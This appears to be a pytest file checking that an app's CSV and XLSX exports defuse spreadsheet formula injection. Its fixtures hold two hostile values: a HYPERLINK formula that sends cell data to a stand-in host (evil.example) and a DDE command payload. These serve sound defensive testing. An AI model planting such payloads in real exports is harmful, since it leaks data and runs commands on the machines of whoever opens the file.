"""Every CSV and XLSX export defuses text a spreadsheet would run as a formula; numbers stay
numbers. Each export path is written with hostile names and notes and read back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from counter_app import cli
from counter_app.application.exports import COLUMN_TEXT, export_overtime, write_summary_table
from counter_app.application.manager import Period
from counter_app.config import Config
from counter_core.tables import safe_cell, write_csv, xlsx_bytes
from counter_core.transaction import Draft
from tests.helpers.clock import FakeClock
from tests.helpers.counter import CounterService

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_NOTE = "+cmd|' /C calc'!A0"
DAY = dt.date(2026, 3, 10)


def at(seconds: float) -> str:
    start = dt.datetime(2026, 3, 10, 2, 0, tzinfo=dt.UTC)
    return (start + dt.timedelta(seconds=seconds)).isoformat(timespec="milliseconds").replace(
        "+00:00", "Z")


@pytest.fixture
def hostile(demo_config: Config, data_dir: Path, clock: FakeClock) -> CounterService:
    """A counter whose clerk is named like a formula and whose overtime note is one."""
    service = CounterService(demo_config, data_dir, clock=clock)
    service.staff.add("1009", HOSTILE_NAME, "staff", "1234")
    txn = "t-hostile"
    service.store.append_timed([
        (at(0), Draft("signed_in", {"staff": "1009", "role": "staff"})),
        (at(5), Draft("started", {"txn": txn, "staff": "1009", "type": "payment",
                                  "target_s": 180.0})),
        (at(255), Draft("completed", {"txn": txn, "duration_s": 250.0, "target_s": 180.0,
                                      "overtime_s": 70.0})),
        (at(258), Draft("rated", {"txn": txn, "rating": 1})),
        (at(260), Draft("signed_out", {"staff": "1009"})),
    ])
    service.manager("9001").desk.review_overtime(txn, "system", HOSTILE_NOTE)
    return service


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


#: an export's header (in either language) → its column's code
CODE_OF = {text: code for code, pair in COLUMN_TEXT.items() for text in pair}


def xlsx_rows(path: Path) -> list[dict[str, Any]]:
    """The sheet's rows keyed by column code (the headers read back in either language)."""
    sheet = load_workbook(path).active
    assert sheet is not None
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    header = [CODE_OF.get(str(h), str(h)) for h in values[0]]
    return [dict(zip(header, row, strict=False)) for row in values[1:] if any(row)]


def assert_no_formula(path: Path) -> None:
    """No cell of the workbook is a formula (openpyxl reads a formula back as "=…" text
    of data type "f")."""
    sheet = load_workbook(path).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_the_one_writer_defuses_text_and_keeps_numbers(tmp_path: Path) -> None:
    records = [{"text": start + "1+1", "n": -5, "f": -0.5, "s": "-5"}
               for start in ("=", "+", "-", "@", "\t", "\r")]
    records.append({"text": "ok", "n": 3, "f": 2.5, "s": "plain"})
    out = io.StringIO()
    write_csv(records, ("text", "n", "f", "s"), out)
    rows = csv_rows(out.getvalue())
    assert [r["text"][:1] for r in rows[:6]] == ["'"] * 6
    assert rows[6]["text"] == "ok"
    assert all(r["n"] in ("-5", "3") and r["s"] in ("'-5", "plain") for r in rows)
    path = tmp_path / "t.xlsx"
    path.write_bytes(xlsx_bytes(records, ("text", "n", "f", "s"), "t/x:y",
                                notes=["=not a formula"]))
    assert_no_formula(path)
    sheet = load_workbook(path).active
    assert sheet is not None
    assert sheet["A2"].value == "'=1+1" and sheet["B2"].value == -5 and sheet["C2"].value == -0.5
    assert sheet["D2"].value == "'-5"
    assert sheet.cell(row=sheet.max_row, column=1).value == "'=not a formula"
    assert safe_cell(-5) == -5 and safe_cell(None) == ""


def test_control_characters_do_not_end_an_xlsx_export(tmp_path: Path) -> None:
    path = tmp_path / "c.xlsx"
    path.write_bytes(xlsx_bytes([{"name": "A\x01B", "x": 1}], ("name", "x"), "c"))
    assert xlsx_rows(path) == [{"name": "A\ufffdB", "x": 1}]


def test_overtime_log_csv_and_xlsx(hostile: CounterService, tmp_path: Path) -> None:
    data = hostile.manager("9001").data
    period = Period(DAY, DAY)
    export_overtime(data, period, tmp_path / "o.csv")
    (row,) = csv_rows((tmp_path / "o.csv").read_text(encoding="utf-8-sig"))
    assert row["staff_name"] == "'" + HOSTILE_NAME and row["note"] == "'" + HOSTILE_NOTE
    assert float(row["overtime_s"]) == 70.0 and float(row["duration_s"]) == 250.0
    export_overtime(data, period, tmp_path / "o.xlsx")
    assert_no_formula(tmp_path / "o.xlsx")
    (cells,) = xlsx_rows(tmp_path / "o.xlsx")
    assert cells["staff_name"] == "'" + HOSTILE_NAME and cells["note"] == "'" + HOSTILE_NOTE
    assert isinstance(cells["overtime_s"], int | float) and cells["overtime_s"] == 70.0
    assert isinstance(cells["rating"], int)


def test_monthly_summary_csv_and_xlsx(hostile: CounterService, tmp_path: Path) -> None:
    report = hostile.manager("9001").data.month_report("2026-03")
    write_summary_table(report, "csv", tmp_path / "s.csv")
    rows = csv_rows((tmp_path / "s.csv").read_text(encoding="utf-8-sig"))
    (mine,) = [r for r in rows if r["staff"] == "1009"]
    assert mine["staff_name"] == "'" + HOSTILE_NAME and int(mine["served"]) == 1
    write_summary_table(report, "xlsx", tmp_path / "s.xlsx")
    assert_no_formula(tmp_path / "s.xlsx")
    (cells,) = [r for r in xlsx_rows(tmp_path / "s.xlsx") if r.get("staff") == "1009"]
    assert cells["staff_name"] == "'" + HOSTILE_NAME and cells["served"] == 1


def test_transactions_csv_command(hostile: CounterService, capsys: pytest.CaptureFixture[str]
                                  ) -> None:
    data_dir = hostile.data_dir
    hostile.close()
    assert cli.main(["export", "transactions", "--data-dir", str(data_dir)]) == 0
    (row,) = [r for r in csv_rows(capsys.readouterr().out) if r["staff"] == "1009"]
    assert row["staff_name"] == "'" + HOSTILE_NAME
    assert float(row["duration_s"]) == 250.0 and row["rating"] == "1"
